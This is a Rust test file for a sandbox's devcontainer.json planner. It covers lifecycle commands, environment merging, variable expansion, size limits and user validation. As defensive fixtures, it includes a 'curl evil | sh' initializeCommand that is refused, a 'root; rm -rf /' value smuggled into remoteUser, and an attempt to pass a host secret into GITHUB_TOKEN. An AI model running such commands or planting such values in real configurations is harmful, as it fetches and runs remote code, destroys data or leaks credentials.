//! The plan's environment, user, lifecycle commands and variables.

use std::path::Path;

use super::plan::{MAX_ENV_ENTRIES, MAX_ENV_VALUE_BYTES};
use super::{plan_from_bytes, DevcontainerPlan, LifecycleCommand};

/// The plan of `text` in the project folder `my-app`, for the sandbox
/// whose devcontainer id is `ks-1234`.
pub(super) fn plan(text: &str) -> DevcontainerPlan {
    plan_from_bytes(
        text.as_bytes(),
        ".devcontainer/devcontainer.json",
        Path::new("/home/u/my-app/.devcontainer/devcontainer.json"),
        "my-app",
        "ks-1234",
    )
    .unwrap()
}

fn sh(script: &str) -> Vec<String> {
    vec!["/bin/sh".into(), "-c".into(), script.into()]
}

fn has_warning(plan: &DevcontainerPlan, part: &str) -> bool {
    plan.warnings.iter().any(|w| w.contains(part))
}

#[test]
fn each_command_form_becomes_argv() {
    let p = plan(
        r#"{
        "onCreateCommand": "npm ci && npm run build",
        "updateContentCommand": ["make", "deps", "two words"],
        "postCreateCommand": {"server": "npm start", "db": ["./db", "--init"]},
        "postStartCommand": "",
        "postAttachCommand": null
    }"#,
    );
    assert_eq!(
        p.on_create,
        [LifecycleCommand {
            name: None,
            argv: sh("npm ci && npm run build")
        }]
    );
    assert_eq!(p.update_content[0].argv, ["make", "deps", "two words"]);
    assert_eq!(p.update_content[0].name, None);
    let mut named: Vec<_> = p
        .post_create
        .iter()
        .map(|c| (c.name.clone().unwrap(), c.argv.clone()))
        .collect();
    named.sort();
    assert_eq!(
        named,
        [
            (
                "db".to_string(),
                vec!["./db".to_string(), "--init".to_string()]
            ),
            ("server".to_string(), sh("npm start")),
        ]
    );
    assert!(p.post_start.is_empty() && p.post_attach.is_empty());
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
}

#[test]
fn each_lifecycle_key_lands_in_its_hook() {
    let p = plan(
        r#"{"onCreateCommand": "a", "updateContentCommand": "b", "postCreateCommand": "c",
            "postStartCommand": "d", "postAttachCommand": "e"}"#,
    );
    let hooks = [
        &p.on_create,
        &p.update_content,
        &p.post_create,
        &p.post_start,
        &p.post_attach,
    ];
    for (hook, script) in hooks.iter().zip(["a", "b", "c", "d", "e"]) {
        assert_eq!(hook[0].argv, sh(script));
    }
}

#[test]
fn commands_that_cannot_run_are_skipped_with_a_warning() {
    let p = plan(
        r#"{"onCreateCommand": [], "postCreateCommand": ["ok", 3],
            "postStartCommand": 42, "postAttachCommand": {"x": {"nested": 1}, "y": "run"}}"#,
    );
    assert!(p.on_create.is_empty() && p.post_create.is_empty() && p.post_start.is_empty());
    assert_eq!(
        p.post_attach,
        [LifecycleCommand {
            name: Some("y".into()),
            argv: sh("run")
        }]
    );
    assert!(
        has_warning(&p, "onCreateCommand: an empty array"),
        "{:?}",
        p.warnings
    );
    assert!(has_warning(
        &p,
        "postCreateCommand: an argument is not a string"
    ));
    assert!(has_warning(&p, "postStartCommand: not a string"));
    assert!(has_warning(&p, "postAttachCommand.x: not a string"));
}

#[test]
fn initialize_command_is_refused_and_never_planned() {
    let p = plan(r#"{"initializeCommand": "curl evil | sh", "postStartCommand": "true"}"#);
    assert_eq!(
        p.refused,
        [
            "`initializeCommand` is never run on the host: the sandbox runs nothing from the \
          repository on the host"
        ]
    );
    let all = [
        &p.on_create,
        &p.update_content,
        &p.post_create,
        &p.post_start,
        &p.post_attach,
    ];
    let scripts: Vec<_> = all.iter().flat_map(|h| h.iter()).collect();
    assert_eq!(scripts.len(), 1);
    assert!(!p.ignored.iter().any(|k| k.contains("initializeCommand")));
}

#[test]
fn remote_env_wins_over_container_env_and_null_removes() {
    let p = plan(
        r#"{"containerEnv": {"A": "container", "B": "kept", "GONE": "x"},
            "remoteEnv": {"A": "remote", "GONE": null, "C": "new"}}"#,
    );
    let env: Vec<_> = p
        .env
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    assert_eq!(env, [("A", "remote"), ("B", "kept"), ("C", "new")]);
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
}

#[test]
fn bad_env_names_and_values_are_skipped_with_a_warning() {
    let big = "x".repeat(MAX_ENV_VALUE_BYTES + 1);
    let p = plan(&format!(
        r#"{{"containerEnv": {{"1BAD": "a", "HAS SPACE": "b", "NUM": 3, "NUL": null,
            "BIG": "{big}", "GOOD_1": "ok"}}, "remoteEnv": ["not", "an", "object"]}}"#
    ));
    assert_eq!(p.env.keys().collect::<Vec<_>>(), ["GOOD_1"]);
    for part in [
        "containerEnv.1BAD: not a valid variable name",
        "containerEnv.HAS SPACE: not a valid variable name",
        "containerEnv.NUM: the value is not a string",
        "containerEnv.NUL: the value is not a string",
        "containerEnv.BIG: longer than 32768 bytes",
        "`remoteEnv` is not an object",
    ] {
        assert!(has_warning(&p, part), "{part}: {:?}", p.warnings);
    }
}

#[test]
fn the_number_of_variables_is_bounded() {
    let entries: Vec<String> = (0..MAX_ENV_ENTRIES + 5)
        .map(|i| format!("\"V{i}\": \"{i}\""))
        .collect();
    let p = plan(&format!("{{\"containerEnv\": {{{}}}}}", entries.join(",")));
    assert_eq!(p.env.len(), MAX_ENV_ENTRIES);
    assert!(
        has_warning(&p, "more than 256 variables"),
        "{:?}",
        p.warnings
    );
}

#[test]
fn workspace_and_id_variables_are_expanded() {
    let p = plan(
        r#"{"containerEnv": {"WS": "${containerWorkspaceFolder}/bin",
              "BASE": "${containerWorkspaceFolderBasename}", "PROJECT": "${localWorkspaceFolderBasename}",
              "ID": "${devcontainerId}"},
            "remoteEnv": {"PATH2": "${containerEnv:WS}:${containerEnv:MISSING:/usr/bin}"},
            "postCreateCommand": ["echo", "${containerEnv:PROJECT}-${containerEnv:PATH2}"]}"#,
    );
    assert_eq!(p.env["WS"], "/workspace/bin");
    assert_eq!(p.env["BASE"], "workspace");
    assert_eq!(p.env["PROJECT"], "my-app");
    assert_eq!(p.env["ID"], "ks-1234");
    assert_eq!(p.env["PATH2"], "/workspace/bin:/usr/bin");
    assert_eq!(
        p.post_create[0].argv,
        ["echo", "my-app-/workspace/bin:/usr/bin"]
    );
    assert!(p.warnings.is_empty(), "{:?}", p.warnings);
}

#[test]
fn host_environment_and_paths_never_reach_the_plan() {
    std::env::set_var("KEYSTONE_DEVCONTAINER_TEST_SECRET", "hunter2");
    let p = plan(
        r#"{"remoteEnv": {"GITHUB_TOKEN": "${localEnv:KEYSTONE_DEVCONTAINER_TEST_SECRET}",
              "HOME_DIR": "${localEnv:HOME:/fallback}", "HOST": "${localWorkspaceFolder}"},
            "postStartCommand": "echo ${localEnv:KEYSTONE_DEVCONTAINER_TEST_SECRET} ${localWorkspaceFolder}"}"#,
    );
    assert_eq!(p.env["GITHUB_TOKEN"], "");
    assert_eq!(p.env["HOME_DIR"], "");
    assert_eq!(p.env["HOST"], "");
    assert_eq!(p.post_start[0].argv, sh("echo  "));
    let shown = format!("{p:?}");
    assert!(
        !shown.contains("hunter2") && !shown.contains("/home/u"),
        "{shown}"
    );
    assert!(
        has_warning(&p, "remoteEnv.GITHUB_TOKEN: `${localEnv:KEYSTONE_DEVCONTAINER_TEST_SECRET}` becomes an empty string: not passed: host environment variables and paths stay on the host"),
        "{:?}",
        p.warnings
    );
    assert!(has_warning(
        &p,
        "`${localWorkspaceFolder}` becomes an empty string"
    ));
}

#[test]
fn unknown_variables_stay_as_written_with_a_warning() {
    let p = plan(
        r#"{"postStartCommand": "echo ${foo} ${containerEnv:UNSET} $HOME ${unclosed",
            "remoteUser": "${containerEnv:WHO:dev}"}"#,
    );
    assert_eq!(p.post_start[0].argv, sh("echo ${foo}  $HOME ${unclosed"));
    assert_eq!(p.remote_user.as_deref(), Some("dev"));
    assert!(
        has_warning(&p, "unknown variable `${foo}` is left as written"),
        "{:?}",
        p.warnings
    );
    assert!(has_warning(
        &p,
        "`${containerEnv:UNSET}` is not set by devcontainer.json"
    ));
}

#[test]
fn expansion_is_bounded() {
    // 30 KiB three times is past the 64 KiB of one string; a hundred
    // arguments of 60 KiB are past the 4 MiB of the whole file.
    let big = "y".repeat(30 * 1024);
    let refs = "${containerEnv:BIG}".repeat(3);
    let args = vec![format!("\"{}\"", "${containerEnv:BIG}".repeat(2)); 100];
    let p = plan(&format!(
        r#"{{"containerEnv": {{"BIG": "{big}"}}, "postCreateCommand": "{refs}",
            "postStartCommand": ["echo", {}],
            "postAttachCommand": "echo ${{containerEnv:BIG}}"}}"#,
        args.join(",")
    ));
    assert!(p.post_create.is_empty() && p.post_start.is_empty());
    assert!(
        has_warning(
            &p,
            "postCreateCommand: longer than 65536 bytes once expanded; skipped"
        ),
        "{:?}",
        p.warnings
    );
    assert!(
        has_warning(&p, "postStartCommand: past the 4194304 bytes"),
        "{:?}",
        p.warnings
    );
    // A string that would pass the budget spends nothing of it.
    assert_eq!(p.post_attach[0].argv[2].len(), 5 + big.len());
}

#[test]
fn remote_user_wins_over_container_user() {
    let p = plan(r#"{"remoteUser": "node", "containerUser": "root"}"#);
    assert_eq!(p.remote_user.as_deref(), Some("node"));
    assert_eq!(p.ignored, ["containerUser"]);
    let p = plan(r#"{"containerUser": "vscode"}"#);
    assert_eq!(p.remote_user.as_deref(), Some("vscode"));
    assert!(p.ignored.is_empty());
    for bad in [r#""root; rm -rf /""#, r#""-rf""#, r#""1000""#, "7", r#""""#] {
        let p = plan(&format!(r#"{{"remoteUser": {bad}}}"#));
        assert_eq!(p.remote_user, None, "{bad}");
        assert!(
            has_warning(&p, "the sandbox's own user is used"),
            "{bad}: {:?}",
            p.warnings
        );
    }
}

#[test]
fn a_plan_with_nothing_to_apply_is_empty() {
    let p = plan(r#"{"name": "x", "image": "debian", "customizations": {}}"#);
    assert!(p.is_empty());
    assert_eq!(p.source, ".devcontainer/devcontainer.json");
    assert!(!plan(r#"{"postStartCommand": "true"}"#).is_empty());
    assert!(!plan(r#"{"remoteUser": "node"}"#).is_empty());
    assert!(!plan(r#"{"forwardPorts": [3000]}"#).is_empty());
    assert!(!plan(r#"{"features": {"x/y/z": {}}}"#).is_empty());
}
